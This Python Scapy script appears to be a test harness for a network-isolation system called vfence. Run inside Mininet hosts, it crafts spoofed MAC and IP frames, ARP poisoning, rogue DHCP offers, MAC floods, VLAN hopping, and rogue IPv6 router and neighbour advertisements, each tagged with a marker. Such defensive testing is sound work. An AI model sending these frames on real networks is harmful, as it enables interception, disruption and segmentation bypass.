"""Run inside a Mininet host: what a compromised VM would send. Every frame carries
MARKER in its payload (or trailing bytes), so a capture counts only this attack's frames.

    python scapy_attacks.py IFACE MARKER KIND [args...]
      macspoof SPOOF_MAC DST_MAC DST_IP              IP/UDP with someone else's MAC
      ipspoof OWN_MAC SPOOF_IP DST_MAC DST_IP PORT   TCP SYN with someone else's IP
      arppoison OWN_MAC VICTIM_MAC VICTIM_IP CLAIMED_IP   ARP reply: CLAIMED_IP is-at OWN_MAC
      dhcp OWN_MAC OWN_IP SPORT                      DHCP offer from SPORT (67: a server)
      macflood COUNT                                 COUNT frames with random source MACs
      udp OWN_MAC OWN_IP DST_MAC DST_IP PORT         plain UDP (any destination MAC)
      vlan OWN_MAC OWN_IP DST_MAC DST_IP VID [VID2]  802.1Q (QinQ with VID2) tagged UDP
      ra OWN_MAC OWN_LL                              router advertisement to all nodes
      na OWN_MAC OWN_LL DST_MAC DST_LL TARGET        unsolicited neighbour advertisement
      rarp MAC                                       QEMU's 5 announcements (0..800 ms)
      lldp OWN_MAC                                   LLDP that mimics a vfence probe
      tcpmid OWN_MAC OWN_IP DST_MAC DST_IP PORT      mid-stream TCP (ACK/PSH, no SYN)
"""

import sys
import time

from scapy.all import (
    ARP,
    BOOTP,
    DHCP,
    IP,
    TCP,
    UDP,
    Dot1Q,
    Ether,
    ICMPv6ND_NA,
    ICMPv6ND_RA,
    ICMPv6NDOptDstLLAddr,
    ICMPv6NDOptPrefixInfo,
    ICMPv6NDOptSrcLLAddr,
    IPv6,
    RandMAC,
    Raw,
    sendp,
)
from scapy.contrib.lldp import (
    LLDPDUChassisID,
    LLDPDUEndOfLLDPDU,
    LLDPDUPortID,
    LLDPDUSystemName,
    LLDPDUTimeToLive,
)

iface, marker, kind, args = sys.argv[1], sys.argv[2].encode(), sys.argv[3], sys.argv[4:]
tail = Raw(marker * 2)
if kind == "macspoof":
    spoof, dst_mac, dst_ip = args
    pkts = [Ether(src=spoof, dst=dst_mac) / IP(dst=dst_ip) / UDP(dport=5432) / tail] * 5
elif kind == "ipspoof":
    own, spoof_ip, dst_mac, dst_ip, port = args
    pkts = [Ether(src=own, dst=dst_mac) / IP(src=spoof_ip, dst=dst_ip) / TCP(
        dport=int(port), flags="S") / tail] * 5
elif kind == "arppoison":
    own, victim_mac, victim_ip, claimed = args
    pkts = [Ether(src=own, dst=victim_mac) / ARP(op=2, hwsrc=own, psrc=claimed,
            hwdst=victim_mac, pdst=victim_ip) / tail] * 5
elif kind == "dhcp":
    own, own_ip, sport = args
    pkts = [Ether(src=own, dst="ff:ff:ff:ff:ff:ff") / IP(src=own_ip, dst="255.255.255.255")
            / UDP(sport=int(sport), dport=68) / BOOTP(op=2, yiaddr="10.0.3.99")
            / DHCP(options=[("message-type", "offer"), "end"]) / tail] * 5
elif kind == "macflood":
    n = int(args[0])
    pkts = [Ether(src=RandMAC(), dst="ff:ff:ff:ff:ff:ff") / tail for _ in range(n)]
elif kind == "udp":
    own, own_ip, dst_mac, dst_ip, port = args
    pkts = [Ether(src=own, dst=dst_mac) / IP(src=own_ip, dst=dst_ip) / UDP(
        sport=40000, dport=int(port)) / tail] * 5
elif kind == "vlan":
    own, own_ip, dst_mac, dst_ip, *vids = args
    tags = Dot1Q(vlan=int(vids[0]))
    if len(vids) > 1:
        tags = Dot1Q(vlan=int(vids[0])) / Dot1Q(vlan=int(vids[1]))
    pkts = [Ether(src=own, dst=dst_mac) / tags / IP(src=own_ip, dst=dst_ip) / UDP(
        dport=9) / tail] * 5
elif kind == "ra":
    own, own_ll = args
    pkts = [Ether(src=own, dst="33:33:00:00:00:01") / IPv6(src=own_ll, dst="ff02::1")
            / ICMPv6ND_RA() / ICMPv6NDOptSrcLLAddr(lladdr=own)
            / ICMPv6NDOptPrefixInfo(prefix="2001:db8:bad::", prefixlen=64) / tail] * 5
elif kind == "na":
    own, own_ll, dst_mac, dst_ll, target = args
    pkts = [Ether(src=own, dst=dst_mac) / IPv6(src=own_ll, dst=dst_ll)
            / ICMPv6ND_NA(tgt=target, R=0, S=0, O=1) / ICMPv6NDOptDstLLAddr(lladdr=own)
            / tail] * 5
elif kind == "rarp":
    (mac,) = args
    rarp = Ether(src=mac, dst="ff:ff:ff:ff:ff:ff", type=0x8035) / ARP(
        op=3, hwsrc=mac, hwdst=mac, psrc="0.0.0.0", pdst="0.0.0.0") / tail
    for delay in (0, 0.05, 0.15, 0.25, 0.35):  # QEMU: 0, 50, 200, 450, 800 ms
        time.sleep(delay)
        sendp(rarp, iface=iface, verbose=False)
    print("sent 5")
    raise SystemExit(0)
elif kind == "lldp":
    (own,) = args
    pkts = [Ether(src=own, dst="01:80:c2:00:00:0e") / LLDPDUChassisID(
        subtype=7, id=b"dpid:0000000000000201") / LLDPDUPortID(subtype=2, id=b"1")
        / LLDPDUTimeToLive(ttl=10) / LLDPDUSystemName(
            system_name=b"vfence:" + b"00" * 8 + b":" + b"00" * 16)
        / LLDPDUEndOfLLDPDU() / tail] * 5
elif kind == "tcpmid":
    own, own_ip, dst_mac, dst_ip, port = args
    pkts = [Ether(src=own, dst=dst_mac) / IP(src=own_ip, dst=dst_ip) / TCP(
        sport=40001, dport=int(port), flags="PA", seq=1000 + i, ack=5000) / tail
        for i in range(5)]
else:
    raise SystemExit(f"unknown attack {kind}")
sendp(pkts, iface=iface, verbose=False, inter=0.01 if len(pkts) <= 20 else 0)
print("sent", len(pkts))
